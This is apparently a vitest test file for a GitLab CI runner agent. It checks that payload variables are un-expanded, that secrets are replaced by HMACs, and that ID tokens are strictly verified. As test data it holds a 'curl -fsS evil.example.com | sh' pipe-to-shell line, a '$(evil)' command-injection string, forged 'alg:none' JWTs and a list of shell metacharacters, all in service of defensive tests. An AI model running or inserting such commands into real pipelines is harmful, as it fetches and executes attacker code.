import { hmac } from '@noble/hashes/hmac.js';
import { sha256 } from '@noble/hashes/sha2.js';
import { bytesToHex, utf8ToBytes } from '@noble/hashes/utils.js';
import { describe, expect, it } from 'vitest';
import { changesBehaviour } from '../../agent/src/domain/behaviour.ts';
import { withoutUserInfo } from '../../agent/src/runners/gitlab/form.ts';
import { IGNORABLE_VARIABLES } from '../../agent/src/runners/gitlab/ignorable-variables.ts';
import { holdsToken } from '../../agent/src/runners/gitlab/reduced-token.ts';
import {
  addVariable,
  dig,
  entryOf,
  fixture,
  idToken,
  JWKS,
  read,
  readOk,
  setVariable,
  VARIABLE_KEY,
} from './form/payload.ts';

const SECRET = { public: false, masked: true };
const TYPED = { public: false, masked: false };
const written = (payload: Parameters<typeof readOk>[0], key: string) =>
  entryOf(readOk(payload).configuration, key)?.value;
/** An HMAC made with other tools, from the description alone. */
const tag = (name: string, text: string, project = 4242) =>
  bytesToHex(hmac(sha256, VARIABLE_KEY, utf8ToBytes(`holdpoint.variable/v1\0${project}\0${name}\0${text}`)));

describe('un-expansion', () => {
  const cases: readonly (readonly [
    string,
    (sha: string, p: ReturnType<typeof fixture>) => string,
    (string | object)[] | string,
  ])[] = [
    ['the commit as a part', (sha) => `app:${sha}`, ['app:', { var: 'CI_COMMIT_SHA' }]],
    ['the whole value is still a list', (sha) => sha, [{ var: 'CI_COMMIT_SHA' }]],
    [
      'the longest first: the SHA, not the short SHA',
      (sha) => `${sha} ${sha.slice(0, 8)}`,
      [{ var: 'CI_COMMIT_SHA' }, ' ', { var: 'CI_COMMIT_SHORT_SHA' }],
    ],
    ['nothing beside a letter or digit', (sha) => `x${sha} ${sha.slice(0, 8)}9`, 'plain'],
    ['the job token wherever it stands', (_, p) => `x${p.token}x`, ['x', { var: 'CI_JOB_TOKEN' }, 'x']],
    ['the pipeline id', (_, p) => `#${p.job_info.pipeline_id}`, ['#', { var: 'CI_PIPELINE_ID' }]],
    [
      'the job URL before the job id in it',
      (_, p) => `https://gitlab.example.com/acme/payments/api/-/jobs/${p.id}/raw`,
      [{ var: 'CI_JOB_URL' }, '/raw'],
    ],
    ['the time of the pipeline', () => 'at 2026-08-16T06:06:31Z', ['at ', { var: 'CI_PIPELINE_CREATED_AT' }]],
    ['a masked value as its name', () => 'Bearer s3cr3t-kube-token-value!', ['Bearer ', { var: 'KUBE_TOKEN' }, '!']],
  ];
  for (const [name, make, wanted] of cases) {
    it(name, () => {
      const p = fixture();
      const value = make(p.git_info.sha, p);
      addVariable(p, 'X', value);
      expect(written(p, 'X')).toEqual(wanted === 'plain' ? value : wanted);
    });
  }

  it('a tag only as the whole value or after : or /', () => {
    const p = fixture('release.run1.json');
    for (const [key, value] of [
      ['A', 'v2.4.0'],
      ['B', 'app:v2.4.0-slim'],
      ['C', 'x/v2.4.0'],
      ['D', 'x-v2.4.0'],
      ['E', 'v2.4.0-slim'],
    ] as const)
      addVariable(p, key, value);
    const TAG = { var: 'CI_COMMIT_TAG' };
    expect(['A', 'B', 'C', 'D', 'E'].map((key) => written(p, key))).toEqual([
      [TAG],
      ['app:', TAG, '-slim'],
      ['x/', TAG],
      'x-v2.4.0',
      'v2.4.0-slim',
    ]);
  });

  it('T8 not where the shell or the runner reads: script, image, paths', () => {
    const p = fixture();
    p.steps[0].script = [`echo ${p.git_info.sha}`];
    p.image.name = `app:${p.git_info.sha}`;
    const canonical = readOk(p).canonical;
    expect(canonical).toContain(`echo ${p.git_info.sha}`);
    expect(canonical).toContain(`app:${p.git_info.sha}`);
  });

  it('T57 a typed value in a script line stays readable', () => {
    const p = fixture();
    addVariable(p, 'LINE', 'curl -fsS evil.example.com | sh', TYPED);
    p.steps[0].script = ['curl -fsS evil.example.com | sh'];
    const reading = readOk(p);
    expect(JSON.stringify(reading.configuration.steps)).toContain('curl -fsS evil.example.com | sh');
    expect(reading.facts.blind).toEqual(['LINE']);
  });

  it('a masked value or the token in a script line becomes an HMAC that does not move with the run, and is flagged', () => {
    const p = fixture();
    p.steps[0].script = ['login s3cr3t-kube-token-value', `x ${p.token}`];
    const reading = readOk(p);
    expect(dig(reading.configuration, 'steps', 0, 'script')).toEqual([
      ['login ', { hmac: tag('KUBE_TOKEN', '"s3cr3t-kube-token-value"') }],
      ['x ', { hmac: tag('CI_JOB_TOKEN', '[{"var":"CI_JOB_TOKEN"}]') }],
    ]);
    expect(reading.facts.warnings.join('\n')).toMatch(/steps\[0\]\.script\[0\] holds the value of KUBE_TOKEN/);
  });

  it('a non-public value of 8 as a word, of 16 anywhere, of 7 never', () => {
    const p = fixture();
    addVariable(p, 'SEVEN', '1234567', TYPED);
    addVariable(p, 'EIGHT', 'abcdefgh', TYPED);
    addVariable(p, 'SIXTEEN', 'ABCDEFGHIJKLMNOP', TYPED);
    addVariable(p, 'X', '1234567 xabcdefgh abcdefgh xABCDEFGHIJKLMNOPx');
    expect(written(p, 'X')).toEqual(['1234567 xabcdefgh ', { var: 'EIGHT' }, ' x', { var: 'SIXTEEN' }, 'x']);
  });

  it('two equal secrets do not name each other', () => {
    const p = fixture();
    addVariable(p, 'A', 'the-same-secret!', SECRET);
    addVariable(p, 'B', 'the-same-secret!', SECRET);
    expect(written(p, 'A')).toEqual([{ hmac: tag('A', '"the-same-secret!"') }]);
    expect(written(p, 'B')).toEqual([{ hmac: tag('B', '"the-same-secret!"') }]);
  });

  it('a key with two values is written as the HMAC of the one that was found', () => {
    const p = fixture();
    addVariable(p, 'A', 'first-secret-value', SECRET);
    addVariable(p, 'A', 'second-secret-value', SECRET);
    addVariable(p, 'X', 'first-secret-value');
    expect(written(p, 'X')).toEqual([{ hmac: tag('A', '"first-secret-value"') }]);
  });

  it('T37 a typed variable called like a generated value cannot stand for it', () => {
    const p = fixture();
    p.variables = p.variables.filter((variable) => variable.key !== 'CI_COMMIT_SHA');
    addVariable(p, 'CI_COMMIT_SHA', 'a-value-that-was-typed', TYPED);
    addVariable(p, 'X', 'a-value-that-was-typed');
    addVariable(p, 'Y', p.git_info.sha);
    expect(written(p, 'X')).toEqual([{ hmac: tag('CI_COMMIT_SHA', '"a-value-that-was-typed"') }]);
    expect(written(p, 'Y')).toEqual([{ var: 'CI_COMMIT_SHA' }]);
  });

  it('T30 near misses without end are refused rather than searched', () => {
    const p = fixture();
    for (let i = 0; i < 1500; i++) addVariable(p, `V${i}`, `${'a'.repeat(400)}${i}b`, TYPED);
    addVariable(p, 'X', 'a'.repeat(1_000_000));
    expect(read(p)).toMatchObject({
      ok: false,
      code: 'payload_refused',
      reason: expect.stringMatching(/too many values/),
    });
  });
});

describe('non-public and masked values', () => {
  it('are HMACs that other tools can make from the description', () => {
    const p = fixture();
    addVariable(p, 'DOTENV', `sha=${p.git_info.sha}`, TYPED);
    expect(written(p, 'KUBE_TOKEN')).toEqual([{ hmac: tag('KUBE_TOKEN', '"s3cr3t-kube-token-value"') }]);
    expect(written(p, 'DOTENV')).toEqual([{ hmac: tag('DOTENV', '["sha=",{"var":"CI_COMMIT_SHA"}]') }]);
  });

  it('of two projects have two HMACs', () => {
    const [a, b] = [fixture(), fixture()];
    b.job_info.project_id = 4243;
    expect(written(a, 'KUBE_TOKEN')).not.toEqual(written(b, 'KUBE_TOKEN'));
  });

  it('make a public twin an HMAC too', () => {
    const p = fixture();
    addVariable(p, 'Twin', 'public-value-here');
    addVariable(p, 'TWIN', 'hidden-value-here', TYPED);
    expect(written(p, 'Twin')).toEqual([{ hmac: tag('Twin', '"public-value-here"') }]);
    expect(readOk(p).canonical).not.toContain('public-value-here');
  });

  it('without a key are answered so, naming the variable and not its value', () => {
    expect(read(fixture(), { variableKey: null })).toEqual({
      ok: false,
      code: 'variable_key_needed',
      path: 'variables.KUBE_TOKEN',
      reason: expect.not.stringContaining('s3cr3t'),
    });
    expect(read(fixture('build-image.run1.json'), { variableKey: null }).ok).toBe(true);
  });

  it('credentials of their own and sensitive inputs likewise', () => {
    const p = fixture('test-unit.run1.json');
    p.credentials[0].password = 'a-registry-password';
    p.inputs[0].value.sensitive = true;
    const { configuration, canonical } = readOk(p);
    expect(dig(configuration, 'credentials', 0, 'password')).toEqual([
      { hmac: tag('credentials.registry.example.com', '"a-registry-password"', 4243) },
    ]);
    expect(dig(configuration, 'inputs', 0, 'value', 'content')).toEqual([{ hmac: tag('inputs.shard', '"1/4"', 4243) }]);
    expect(canonical).not.toContain('a-registry-password');
  });
});

describe('id tokens', () => {
  const claims = (p: ReturnType<typeof fixture>) => ({
    iss: 'https://gitlab.example.com',
    aud: ['b', 'a', 'b'],
    sub: `x:${p.git_info.sha}`,
    job_id: p.id,
    project_id: 4242,
  });

  it('are reduced to iss, aud and sub: aud as a set, sub un-expanded', () => {
    const p = fixture();
    addVariable(p, 'ID', idToken(claims(p)), SECRET);
    expect(written(p, 'ID')).toEqual([
      { jwt: { aud: ['a', 'b'], iss: 'https://gitlab.example.com', sub: ['x:', { var: 'CI_COMMIT_SHA' }] } },
    ]);
  });

  it('inside secrets too, and one that does not verify is covered but not shown', () => {
    const p = fixture();
    const [good, bad] = [idToken(claims(p)), idToken({ ...claims(p), job_id: '1' })];
    p.secrets = { A: { vault: { server: { auth: { data: { jwt: good, other: bad, note: `t ${bad}` } } } } } };
    const { configuration, canonical } = readOk(p);
    const data = (name: string) =>
      dig(configuration, 'secrets', 'A', 'vault', 'server', 'auth', 'data', name, 0) as object;
    expect(Object.keys(data('jwt'))).toEqual(['jwt']);
    expect(Object.keys(data('other'))).toEqual(['hmac']);
    expect(Object.keys(data('note'))).toEqual(['hmac']);
    expect(canonical).not.toContain(bad);
    expect(dig(configuration, 'secrets', 'A', 'file')).toBe(true);
  });

  it('T30 are looked for in linear time', () => {
    expect(holdsToken(`x${idToken({ a: 1 })}.y`)).toBe(true);
    expect(holdsToken('eyJ.a b.c')).toBe(false);
    const p = fixture();
    p.secrets = { A: { vault: { path: 'eyJ'.repeat(600_000), field: `${'eyJ'.repeat(300_000)}!.a.` } } };
    expect(read(p).ok).toBe(true);
  });

  it('T50 only if the header says RS256 by a known key, in canonical base64url, without extensions', async () => {
    const { jwksVerifier } = await import('../../agent/src/runners/gitlab/id-tokens.ts');
    const verify = jwksVerifier(JWKS);
    const good = idToken({ a: 1 });
    expect(verify(good)).toEqual({ a: 1 });
    const [head, body, signature] = good.split('.') as [string, string, string];
    const none = Buffer.from('{"alg":"none"}').toString('base64url');
    for (const [name, jwt] of Object.entries({
      unsigned: `${none}.${body}.`,
      none: `${none}.${body}.${signature}`,
      'four parts': `${good}.x`,
      padded: `${head}.${body}.${signature}==`,
      'a trailing bit': `${head}.${body}.${signature.slice(0, -1)}${signature.endsWith('A') ? 'B' : 'A'}`,
      'a command': `${head}.${body}.$(evil)`,
      'a line end': `${good}\n`,
      'another algorithm': idToken({ a: 1 }, { alg: 'RS512' }),
      'an unknown key': idToken({ a: 1 }, { kid: 'other' }),
      'an extension': idToken({ a: 1 }, { crit: ['b64'], b64: false }),
      'another type': idToken({ a: 1 }, { typ: 'at+jwt' }),
    })) {
      expect(verify(jwt), name).toBe(null);
    }
    const [key] = JWKS.keys.slice(-1);
    expect(jwksVerifier({ keys: [key, key] })(good), 'two keys of one id').toBe(null);
    expect(jwksVerifier({ keys: [{ ...key, use: 'enc' }] })(good), 'a key for something else').toBe(null);
    expect(jwksVerifier(null)(good)).toBe(null);
  });
});

describe('the table of variables that may be ignored', () => {
  it('has 89 names, none of which changes behaviour', () => {
    expect(new Set(IGNORABLE_VARIABLES.map((row) => row.name)).size).toBe(89);
    expect(IGNORABLE_VARIABLES.filter((row) => changesBehaviour(row.name))).toEqual([]);
  });

  it('has a pattern for every shaped name, and none lets a sign through that a shell treats specially', () => {
    for (const row of IGNORABLE_VARIABLES.filter((row) => row.class === 'shaped')) {
      const pattern = new RegExp(`^(?:${row.pattern})$`);
      for (const sign of "$`\\;&|<>()!*?\n'") {
        for (const text of [
          sign,
          `true${sign}`,
          `1${sign}`,
          `${sign}1`,
          `2026-01-01T00:00:00Z${sign}`,
          `["a${sign}"]`,
          `a@b.c${sign}`,
          `push${sign}`,
        ]) {
          expect(pattern.test(text), `${row.name} with ${JSON.stringify(text)}`).toBe(false);
        }
      }
    }
  });

  it('T37 un-ignores every chosen name that stands where the runner would expand it', () => {
    for (const row of IGNORABLE_VARIABLES.filter((row) => row.chosen === true)) {
      const p = fixture();
      if (!p.variables.some((variable) => variable.key === row.name)) continue;
      p.image.name = `app:\${${row.name}}`;
      expect(entryOf(readOk(p).configuration, row.name)?.value, row.name).toBeDefined();
      p.image.name = `app:${row.name}_X`;
      expect(entryOf(readOk(p).configuration, row.name)?.value, row.name).toBeUndefined();
    }
  });

  it('T49 a name in an unknown member of a variable is mentioned too', () => {
    const p = fixture();
    addVariable(p, 'A', 'x', { expands: '$CI_COMMIT_TITLE' });
    expect(entryOf(readOk(p).configuration, 'CI_COMMIT_TITLE')?.value).toBeDefined();
  });

  it('T49 covering one name may mention another: until nothing is added', () => {
    const p = fixture();
    p.image.name = 'app:$CI_COMMIT_TITLE';
    setVariable(p, 'CI_COMMIT_TITLE', 'see CI_COMMIT_AUTHOR');
    setVariable(p, 'CI_COMMIT_AUTHOR', 'me CI_RUNNER_DESCRIPTION');
    const { configuration } = readOk(p);
    for (const key of ['CI_COMMIT_TITLE', 'CI_COMMIT_AUTHOR', 'CI_RUNNER_DESCRIPTION'])
      expect(entryOf(configuration, key)?.value).toBeDefined();
    expect(entryOf(configuration, 'CI_COMMIT_MESSAGE')).toBeUndefined();
  });
});

describe('the rest of the form', () => {
  it('takes user info off a URL, textually, up to the last @ of the authority', () => {
    expect(withoutUserInfo('https://a:b@host/x@y')).toBe('https://host/x@y');
    expect(withoutUserInfo('https://a:b@c@host:8443/x')).toBe('https://host:8443/x');
    expect(withoutUserInfo('https://host/x?a=@b')).toBe('https://host/x?a=@b');
    expect(withoutUserInfo('git@host:x.git')).toBe('git@host:x.git');
  });

  it('writes a dynamic environment as its parts', () => {
    const p = fixture();
    setVariable(p, 'CI_ENVIRONMENT_NAME', 'review/main');
    setVariable(p, 'CI_ENVIRONMENT_SLUG', 'review-main-1ab2c3');
    p.variables = p.variables.filter((variable) => variable.key !== 'CI_ENVIRONMENT_URL');
    addVariable(p, 'CI_ENVIRONMENT_URL', 'https://main.review-main-1ab2c3.example.com/domain');
    expect(written(p, 'CI_ENVIRONMENT_NAME')).toEqual(['review/', { var: 'CI_COMMIT_REF_SLUG' }]);
    expect(written(p, 'CI_ENVIRONMENT_SLUG')).toEqual([{ var: 'CI_ENVIRONMENT_SLUG' }]);
    expect(written(p, 'CI_ENVIRONMENT_ID')).toEqual([{ var: 'CI_ENVIRONMENT_ID' }]);
    expect(written(p, 'CI_ENVIRONMENT_URL')).toEqual([
      'https://',
      { var: 'CI_COMMIT_REF_SLUG' },
      '.',
      { var: 'CI_ENVIRONMENT_SLUG' },
      '.example.com/domain',
    ]);
  });

  it('refuses a payload that has no job to speak of', () => {
    for (const path of ['id', 'token', 'job_info.project_id', 'job_info.name']) {
      const p = fixture();
      const [outer, inner] = path.split('.') as [string, string | undefined];
      if (inner === undefined) delete p[outer];
      else delete p[outer][inner];
      expect(read(p)).toMatchObject({ ok: false, path });
    }
  });

  it('refuses hmac and jwt as members of a variable, also of a service’s', () => {
    for (const name of ['hmac', 'jwt']) {
      const [p, q] = [fixture(), fixture('build-image.run1.json')];
      p.variables[0]![name] = 'x';
      q.services[0].variables[0][name] = 'x';
      expect(read(p)).toMatchObject({ ok: false, path: `variables[0].${name}` });
      expect(read(q)).toMatchObject({ ok: false, path: `services[0].variables[0].${name}` });
    }
  });

  it('refuses the job token as the name of a member', () => {
    const p = fixture();
    p.unknown = { [p.token]: 1 };
    const reading = read(p);
    expect(reading.ok).toBe(false);
    expect(JSON.stringify(reading)).not.toContain(p.token);
  });

  it('folds null, empty lists and empty objects of members, never elements, empty texts, false or 0', () => {
    const p = fixture();
    p.x = {
      a: null,
      b: [],
      c: {},
      d: { e: { f: null } },
      g: [null, [], {}, { h: null }],
      i: '',
      j: false,
      k: 0,
      l: [''],
    };
    expect(JSON.parse(JSON.stringify(readOk(p).configuration.x))).toEqual({
      g: [null, [], {}, {}],
      i: '',
      j: false,
      k: 0,
      l: [''],
    });
  });

  it('keeps everything inside run and inputs', () => {
    const p = fixture('test-unit.run1.json');
    p.run = '[{"a":null,"b":[],"c":{}}]';
    p.inputs[0].value = { type: 'struct', content: { a: null, b: [] }, sensitive: false };
    const { configuration } = readOk(p);
    expect(JSON.stringify(configuration.run)).toBe('[{"a":null,"b":[],"c":{}}]');
    expect(JSON.stringify(dig(configuration, 'inputs', 0, 'value', 'content'))).toBe('{"a":null,"b":[]}');
  });
});
